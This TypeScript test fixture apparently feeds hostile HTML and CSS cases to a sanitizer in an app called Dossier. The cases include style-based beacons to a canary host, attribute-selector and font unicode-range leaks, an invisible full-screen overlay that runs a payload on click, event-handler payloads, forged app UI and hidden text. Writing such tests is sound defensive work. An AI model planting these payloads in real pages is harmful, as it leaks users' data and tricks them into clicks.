import { canary, payload, type HostileCase } from "./case";
import { attacks, pages } from "./page";

/** Styles that ask a server as soon as they are applied. */
const asking: Record<string, string> = {
  "a style that imports": `<style>@import url("${canary}import.css");</style>`,
  "a background in a style attribute": `<p style="background:url('${canary}background.png')">Look.</p>`,
  "attribute selectors that tell what is there": `<style>a[href^="h"]{background:url("${canary}begins-with-h")}p{--leak:url("${canary}leak");background:var(--leak)}</style>`,
  "a font that tells which letters are there": `<style>@font-face{font-family:f;src:url("${canary}font");unicode-range:U+0-7F}*{font-family:f}</style>`,
  "a stylesheet": `<link rel="stylesheet" href="${canary}sheet.css">`,
  "a list's picture, a border and a cursor": `<ul style="list-style-image:url('${canary}list.png')"><li style="border-image:url('${canary}border.png') 1">One</li><li>Two</li></ul>`,
  "pictures in every old attribute": `<table background="${canary}old.png"><tr><td background="${canary}cell.png">x</td><td>y</td></tr></table>`,
  "picture sources": `<picture><source srcset="${canary}set.png 1x, ${canary}set2.png 2x"><img src="${canary}src.png" srcset="${canary}set3.png 3x" alt="x"></picture>`,
  "a preload and a prefetch": `<link rel="preload" as="image" href="${canary}preload.png"><link rel="modulepreload" href="${canary}module.js">`,
};

const standing: Record<string, string> = {
  "an overlay that covers everything": `<div onclick="${payload}" style="position:fixed;inset:0;z-index:2147483647;opacity:0"><a href="https://ok.example/">Covers everything.</a></div>`,
  "an animation that runs something": `<style>@keyframes k{to{opacity:.9}}</style><p style="animation:k 1s" onanimationstart="${payload}">Moves.</p>`,
  "classes and ids of Dossier's own": `<div class="popup" onclick="0" data-status="unreadable"><p role="alert">Not ours.</p></div><div role="status" onclick="0">Saved</div><div id="preview" role="tabpanel" onclick="0"><pre>forged</pre></div>`,
};

export const styleCases: HostileCase[] = [
  ...attacks(asking, "asks"),
  ...attacks(standing, "stands"),
  ...pages({
    "text that is there and is not seen": {
      head: "<style>.gone{font-size:0;color:transparent}</style>",
      body: '<p>Seen. <span class="gone" style="position:absolute;left:-9999px">Not seen.</span></p>',
    },
  }),
];
